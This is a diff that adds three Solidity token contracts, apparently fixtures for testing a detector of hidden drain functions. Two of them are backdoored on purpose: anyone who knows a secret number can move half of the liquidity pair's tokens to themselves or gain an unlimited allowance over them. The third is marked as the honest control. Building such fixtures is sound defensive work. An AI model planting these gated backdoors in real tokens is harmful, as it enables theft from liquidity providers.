@@ -418,3 +418,33 @@ contract SignedMove is Erc20 {
         }
     }
 }
+
+/// Behind a number that no probe has: half of the pool's tokens, or its approval.
+contract SecretPoolTaker is Pooled {
+    constructor(string memory n, string memory s, address p) Pooled(n, s, p) {}
+
+    function collect(uint256 n) external {
+        require(mulmod(n, n, 1000003) == 522753);
+        _move(pair, msg.sender, _balances[pair] / 2);
+    }
+}
+
+contract SecretPoolSpender is Pooled {
+    constructor(string memory n, string memory s, address p) Pooled(n, s, p) {}
+
+    function link(uint256 n) external {
+        require(mulmod(n, n, 1000003) == 522753);
+        _allowances[pair][msg.sender] = type(uint256).max;
+    }
+}
+
+/// Honest: what is taken behind the number are the contract's tokens, and those of a dead account.
+contract SecretSweeper is Pooled {
+    constructor(string memory n, string memory s, address p) Pooled(n, s, p) {}
+
+    function collect(uint256 n) external {
+        require(mulmod(n, n, 1000003) == 522753);
+        _move(address(this), pair, _balances[address(this)] / 2);
+        _move(address(0xdead), pair, _balances[address(0xdead)] / 2);
+    }
+}
